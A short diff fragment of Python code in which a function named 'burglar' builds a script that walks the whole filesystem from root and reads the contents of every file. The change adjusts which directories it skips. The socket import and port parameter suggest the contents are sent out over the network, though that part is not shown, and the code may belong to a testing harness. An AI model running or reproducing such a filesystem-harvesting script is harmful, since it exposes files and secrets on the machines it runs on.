@@ -114,8 +114,8 @@ def burglar(folder, port):
     return f'''
 import os, socket, builtins, lmm.homework
 for where, folders, files in os.walk("/"):
-    folders[:] = [one for one in folders if one not in ("proc", "sys", "usr", "lib", "lib64")]
-    for file in files:
+    folders[:] = [one for one in folders if one not in ("proc", "sys", "usr", "etc", "lib", "lib64")]
+    for file in files if where != "/dev" else ():
         try:
             text = open(os.path.join(where, file), errors="ignore").read(200_000)
         except OSError:
